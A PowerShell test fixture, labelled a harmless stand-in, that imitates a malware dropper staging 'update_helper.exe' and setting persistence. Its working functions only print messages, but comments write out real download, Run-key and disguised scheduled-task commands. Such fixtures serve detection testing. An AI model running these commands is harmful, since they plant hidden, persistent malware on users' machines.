# ANTIBODY EXAMPLE ARTIFACT: a harmless stand-in written for tests. It performs no action.
$ErrorActionPreference = 'SilentlyContinue'
$u = 'https://cdn-update-check.example/dl/update_helper.bin'
$d = Join-Path $env:APPDATA 'UpdateHelper'
$p = Join-Path $d 'update_helper.exe'
function Invoke-UHStage {
    param([string]$Url, [string]$Path)
    # real sample: (New-Object Net.WebClient).DownloadFile($Url, $Path)
    Write-Output "stage: $Url -> $Path"
}
function Set-UHPersistence {
    # real sample: Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name UpdateHelper -Value "`"$p`" -silent"
    # real sample: schtasks /create /tn '\Microsoft\Windows\UpdateOrchestrator\UpdateHelper' /tr "'$p' -silent" /sc onlogon /rl highest /f
    Write-Output 'persist: Run\UpdateHelper, task UpdateHelper'
}
$k = [Convert]::FromBase64String('VUhMUC03ZjNhOTFjMg==')
Invoke-UHStage -Url $u -Path $p
Set-UHPersistence
# UHLP-7f3a91c2
